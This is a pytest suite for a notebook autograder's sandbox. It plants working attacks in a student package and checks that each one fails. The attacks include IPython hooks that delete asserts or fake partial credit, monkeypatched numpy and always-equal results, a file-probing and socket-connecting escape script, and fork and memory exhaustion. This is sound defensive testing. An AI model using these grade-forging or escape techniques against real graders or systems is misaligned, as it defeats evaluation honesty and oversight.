"""Students who try to forge their grades or get out of the grading sandbox.

Every attack is handed in on top of the same hand-in with known wrong answers (the solution
with the collapsing schedule and an IoU that is NaN for two empty masks) as code that runs
when the notebooks import ``helpers``. Each must score exactly what that hand-in scores
without it, leave the course folder as it was, reach no listener, and put no hidden-test
line in the feedback. The escape and exhaustion attacks print what they managed, which the
tests read back from the autograded notebooks.
"""
import hashlib
import json
import shutil
import socket
import threading
from pathlib import Path

import nbformat
import pytest
from nbgrader.api import Gradebook

from grading.autograde import autograde
from grading.collect import collect
from grading.course import ASSIGNMENT, KIT, course_api, step_dir
from grading.feedback import feedback
from grading.leaks import HIDDEN_TESTS, find_leaks, secret_lines
from grading.sandbox import python_roots
from tests.conftest import require_tool
from tests.grading_submissions import COLLAPSING_SCHEDULE, NAN_ON_EMPTY_MASKS, write_hand_ins

pytestmark = pytest.mark.filterwarnings("ignore::sqlalchemy.exc.SAWarning")

WRONG = [("training.py", "scheduler", COLLAPSING_SCHEDULE), ("metrics.py", "compute_IoU", NAN_ON_EMPTY_MASKS)]
WRONG_QUESTIONS = {"test_scheduler", "test_compute_iou"}

# Forging attempts, each public knowledge. They run at `import helpers`, in every notebook.
FORGERIES = {
    "delete_asserts": """
import ast as _ast
from IPython import get_ipython as _ip

class _NoAsserts(_ast.NodeTransformer):
    def visit_Assert(self, node):
        return _ast.Pass()

_ip().ast_transformers.append(_NoAsserts())
""",
    "blank_test_cells": """
from IPython import get_ipython as _ip

def _blank(lines):
    return [] if any("assert" in line for line in lines) else lines

_ip().input_transformers_post.append(_blank)
""",
    "result_before_each_cell": """
from IPython import get_ipython as _ip

# nbgrader takes a cell's first result as its partial credit: 6, all points of the tests it fails.
def _publish(info):
    if "scheduler(" in info.raw_cell or "compute_IoU(" in info.raw_cell:
        _ip().displayhook(6)

_ip().events.register("pre_run_cell", _publish)
""",
    "swallow_errors": """
from IPython import get_ipython as _ip
from IPython.core.interactiveshell import ExecutionResult as _Result

_Result.success = property(lambda self: True)
_Result.raise_error = lambda self: None
_ip().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
""",
    "patch_numpy": """
import numpy as _np
from IPython import get_ipython as _ip

_real = {name: getattr(_np, name) for name in ("isclose", "allclose", "array_equal")}

def _patch_for_tests(info):
    for name, real in _real.items():
        setattr(_np, name, (lambda *args, **kwargs: True) if "assert" in info.raw_cell else real)

_ip().events.register("pre_run_cell", _patch_for_tests)
""",
    "always_equal": """
class _Yes(float):
    __hash__ = float.__hash__

    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

from . import metrics as _metrics, training as _training

_metrics.compute_IoU = (lambda iou: lambda mask, pred: _Yes(iou(mask, pred)))(_metrics.compute_IoU)
_training.scheduler = (lambda rate: lambda epoch, lr=None: _Yes(rate(epoch, lr)))(_training.scheduler)
""",
    "quote_hidden_tests": """
from IPython import get_ipython as _ip

_seen = []

def _quote(info):
    if "_lungkit_report" not in info.raw_cell:
        print("".join(_seen))
        _seen.append(info.raw_cell)

_ip().events.register("pre_run_cell", _quote)
""",
}
# Getting out: read, write and connect, then print what worked. {course}, {kit}, {home}, {port}.
ESCAPE = """
import json as _json, os as _os, socket as _socket

_found = {{"read": [], "wrote": [], "connected": False, "hidden_tests_seen": [], "home": []}}
for _path in [{course!r}, {course!r} + "/source", {course!r} + "/gradebook.db", {course!r} + "/submitted",
              {kit!r} + "/notebooks", {kit!r} + "/grading", {kit!r} + "/helpers"]:
    if _os.path.exists(_path):
        _found["read"].append(_path)
if _os.path.isdir({home!r}):
    _found["home"] = sorted(_os.listdir({home!r}))
for _path in [{course!r} + "/pwned.txt", {course!r} + "/gradebook.db", {kit!r} + "/pwned.txt", "/submission/pwned.txt"]:
    try:
        with open(_path, "a") as _file:
            _file.write("PWNED")
        _found["wrote"].append(_path)
    except OSError:
        pass
try:
    _socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"hidden tests")
    _found["connected"] = True
except OSError:
    pass
_own = ("/proc", "/sys", "/dev", "/usr", "/submission", _os.path.expanduser("~"))  # the hand-in's own files
for _root, _dirs, _files in _os.walk("/"):
    _dirs[:] = [d for d in _dirs if _os.path.join(_root, d) not in _own]
    for _name in _files:
        if _name.endswith((".ipynb", ".db", ".py")) and "site-packages" not in _root:
            try:
                with open(_os.path.join(_root, _name), errors="ignore") as _file:
                    if "BEGIN HIDDEN TESTS" in _file.read():
                        _found["hidden_tests_seen"].append(_os.path.join(_root, _name))
            except OSError:
                pass
print("ATTACK-REPORT", _json.dumps(_found))
"""
# Using up the machine, within bounds so that the kernel goes on: processes, memory, disk.
EXHAUST = """
import json as _json, os as _os, time as _time
import numpy as _np

_used = {{}}
_children = []
try:
    for _ in range(5000):
        _pid = _os.fork()
        if _pid == 0:
            _time.sleep(60)
            _os._exit(0)
        _children.append(_pid)
except OSError as _error:
    _used["processes"] = [len(_children), type(_error).__name__]
for _pid in _children:
    _os.kill(_pid, 9)
    _os.waitpid(_pid, 0)
_blocks = []
try:
    for _ in range(1000):
        _blocks.append(_np.empty(2**30, _np.uint8))
except MemoryError:
    _used["memory_gib"] = len(_blocks)
del _blocks
for _folder in ("/tmp", _os.path.expanduser("~")):
    _written, _errors = 0, set()
    for _index in range(100):
        try:
            with open(_os.path.join(_folder, f"fill{{_index}}"), "wb") as _file:
                for _ in range(80):
                    _file.write(bytes(2**22))
                    _written += 2**22
        except OSError as _error:
            _errors.add(_error.errno)
            if _error.errno != 27:  # past the largest file allowed (EFBIG): try another file
                break
    _used[_folder] = [_written, sorted(_errors)]
    for _name in [n for n in _os.listdir(_folder) if n.startswith("fill")]:
        _os.remove(_os.path.join(_folder, _name))
print("ATTACK-REPORT", _json.dumps(_used))
"""


@pytest.fixture(scope="module")
def listener():
    """A TCP listener on 127.0.0.1 that counts connections; a sandboxed kernel must never reach it."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.5)
    state = {"connections": 0, "stop": False}

    def serve():
        for _ in range(100_000):  # bounded: about 14 hours at most, stopped long before
            if state["stop"]:
                return
            try:
                server.accept()[0].close()
                state["connections"] += 1
            except TimeoutError:
                continue

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], state
    state["stop"] = True
    thread.join(timeout=5)
    server.close()


@pytest.fixture(scope="module")
def attacked(released_course, fast_weights, listener, tmp_path_factory):
    """The wrong hand-in and one hand-in per attack, collected and autograded in one run.

    Returns ``(course, results, course digest before autograding, after)``.
    """
    require_tool("bwrap", "bubblewrap", "the attacks are graded in the sandbox")
    port, _ = listener
    course = tmp_path_factory.mktemp("attacks") / "course"
    shutil.copytree(released_course, course)
    attacks = {**FORGERIES,
               "escape": ESCAPE.format(course=str(course), kit=str(KIT), home=str(Path.home()), port=port),
               "exhaust": EXHAUST.format()}
    hand_ins = tmp_path_factory.mktemp("hand_ins")
    write_hand_ins(hand_ins, step_dir(course, "source"), None, fast_weights,
                   hand_ins={"wrong": WRONG, **{name: WRONG for name in attacks}})
    for name, code in attacks.items():
        init = hand_ins / name / "helpers" / "__init__.py"
        init.write_text("# The attack\n" + code + "\n" + init.read_text())
    collect(hand_ins, course)
    before = course_digest(course)
    results = autograde(course)
    return course, attacks, results, before, course_digest(course)


def course_digest(course):
    """sha256 of every file that grading must not change: source, release, hand-ins, settings."""
    digest = hashlib.sha256()
    for folder in ("source", "release", "submitted", "exchange"):
        for path in sorted(p for p in (course / folder).rglob("*") if p.is_file()):
            digest.update(str(path.relative_to(course)).encode() + path.read_bytes())
    digest.update((course / "nbgrader_config.py").read_bytes())
    return digest.hexdigest()


def question_scores(course, student):
    """``{grade_id: score}`` of the autograder tests of ``student``, from nbgrader's gradebook."""
    coursedir = course_api(course).coursedir
    with Gradebook(coursedir.db_url, coursedir.course_id) as gradebook:
        submission = gradebook.find_submission(ASSIGNMENT, student)
        return {grade.name: grade.score for notebook in submission.notebooks for grade in notebook.grades
                if grade.auto_score is not None and not grade.needs_manual_grade}


def attack_report(course, student):
    """What an attack printed as ATTACK-REPORT in the first notebook, decoded."""
    cells = nbformat.read(step_dir(course, "autograded", student) / "01_data.ipynb", as_version=4).cells
    texts = [o.get("text", "") for c in cells for o in c.get("outputs", []) if o.output_type == "stream"]
    line = next(line for text in texts for line in text.splitlines() if line.startswith("ATTACK-REPORT"))
    return json.loads(line.removeprefix("ATTACK-REPORT"))


def test_the_wrong_hand_in_loses_exactly_its_wrong_answers(attacked):
    course, _, results, _, _ = attacked
    scores = question_scores(course, "wrong")
    lost = {question for question, score in scores.items() if score == 0}
    assert lost == WRONG_QUESTIONS, scores
    print("the wrong hand-in:", results["wrong"]["score"], "points; every attack must score the same")


@pytest.mark.parametrize("attack", [*FORGERIES, "escape", "exhaust"])
def test_an_attack_scores_what_the_hand_in_scores_without_it(attack, attacked):
    course, _, results, _, _ = attacked
    assert results[attack]["success"] and results[attack]["sandboxed"]
    assert question_scores(course, attack) == question_scores(course, "wrong")


def test_the_course_folder_is_unchanged_and_no_connection_got_out(attacked, listener):
    course, _, _, before, after = attacked
    assert after == before
    assert b"PWNED" not in (course / "gradebook.db").read_bytes()
    assert not (course / "pwned.txt").exists() and not (KIT / "pwned.txt").exists()
    assert listener[1]["connections"] == 0


def test_the_sandbox_hides_the_course_the_kit_and_the_network(attacked):
    course, _, _, _, _ = attacked
    found = attack_report(course, "escape")
    home = Path.home()
    # Of the grader's home, only the way to the Python environment, if it lies there.
    assert set(found.pop("home")) <= {root.relative_to(home).parts[0] for root in python_roots() if home in root.parents}
    assert found == {"read": [], "wrote": [], "connected": False, "hidden_tests_seen": []}


def test_the_sandbox_limits_processes_memory_and_disk(attacked):
    course, _, _, _, _ = attacked
    used = attack_report(course, "exhaust")
    print("what the exhaustion attack got:", used)
    processes, error = used["processes"]
    assert processes < 512 and error == "BlockingIOError"
    assert used["memory_gib"] <= 12
    for folder, size in (("/tmp", 512 * 2**20), ("/home/student", 2**30)):
        written, errors = used[folder]
        assert written <= size and errors == [27, 28], used  # EFBIG past 256 MiB a file, ENOSPC when full


def test_feedback_quotes_no_hidden_test(attacked):
    course, _, _, _, _ = attacked
    feedback(course)
    hidden = secret_lines(step_dir(course, "source"), kinds=("hidden tests",))
    assert not find_leaks(course / "feedback", hidden, HIDDEN_TESTS)
    autograded = step_dir(course, "autograded", "quote_hidden_tests")
    removed = [o for path in autograded.glob("*.ipynb") for c in nbformat.read(path, as_version=4).cells
               for o in c.get("outputs", []) if "quoted a hidden test" in o.get("text", "")]
    assert removed, "the quoting attack printed hidden probes: the grader should have removed them"
